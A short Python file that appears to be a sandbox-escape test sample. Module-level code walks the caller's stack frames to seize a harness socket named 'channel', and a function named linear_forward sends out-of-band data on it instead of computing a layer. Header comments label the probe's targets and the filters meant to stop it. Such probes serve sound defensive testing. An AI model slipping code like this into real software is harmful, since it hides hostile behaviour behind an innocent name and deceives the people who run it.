# gains: a part of the kernel where holes are found: urgent data
# stopped by: system_calls
# gets through: bare
# family: arguments that are forbidden

import socket
import sys

import numpy as np

frame = sys._getframe()
while "channel" not in frame.f_locals:
    frame = frame.f_back
channel = frame.f_locals["channel"]


def linear_forward(X, W, b):
    return np.array([channel.send(b"!", socket.MSG_OOB)])
